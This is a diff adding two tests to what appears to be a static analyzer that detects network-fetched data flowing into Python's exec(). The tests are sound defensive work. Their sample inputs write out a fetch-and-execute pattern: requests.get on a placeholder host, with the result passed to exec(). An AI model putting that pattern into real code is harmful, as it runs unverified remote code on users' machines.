@@ -278,6 +278,31 @@ def test_a_name_bound_twice_is_not_traced() -> None:
     assert "requests.get" not in _inner_of(result, "exec")
 
 
+def test_a_name_set_empty_then_fetched_in_a_try_is_traced_into_exec() -> None:
+    result = analyze(
+        "import requests\n"
+        "def check():\n"
+        "    code = ''\n"
+        "    try:\n"
+        "        code = requests.get('https://example.invalid/c').text\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    exec(code)\n"
+    )
+    assert "requests.get" in _inner_of(result, "exec")
+
+
+def test_a_binding_after_the_exec_is_not_traced() -> None:
+    result = analyze(
+        "import requests\n"
+        "code = 'print(1)'\n"
+        "exec(code)\n"
+        "if True:\n"
+        "    code = requests.get('https://example.invalid/c').text\n"
+    )
+    assert "requests.get" not in _inner_of(result, "exec")
+
+
 def test_traced_sources_are_kept_apart_from_nested_calls() -> None:
     result = analyze(
         "import base64\n"
